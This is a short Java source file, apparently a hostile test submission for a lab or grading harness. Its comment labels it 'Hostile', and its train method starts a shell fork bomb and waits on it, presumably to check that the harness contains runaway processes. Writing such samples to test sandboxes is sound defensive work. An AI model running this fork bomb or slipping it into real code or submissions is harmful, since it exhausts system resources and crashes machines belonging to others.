import org.nnlab.api.LabContext;
import org.nnlab.api.LabSolution;

/** Hostile: starts a fork bomb and waits for it. */
public class Solution implements LabSolution {
    @Override
    public void train(LabContext ctx) throws Exception {
        new ProcessBuilder("/bin/sh", "-c", "nnlabbomb() { nnlabbomb | nnlabbomb & }; nnlabbomb; sleep 600")
                .inheritIO().start().waitFor();
    }
}
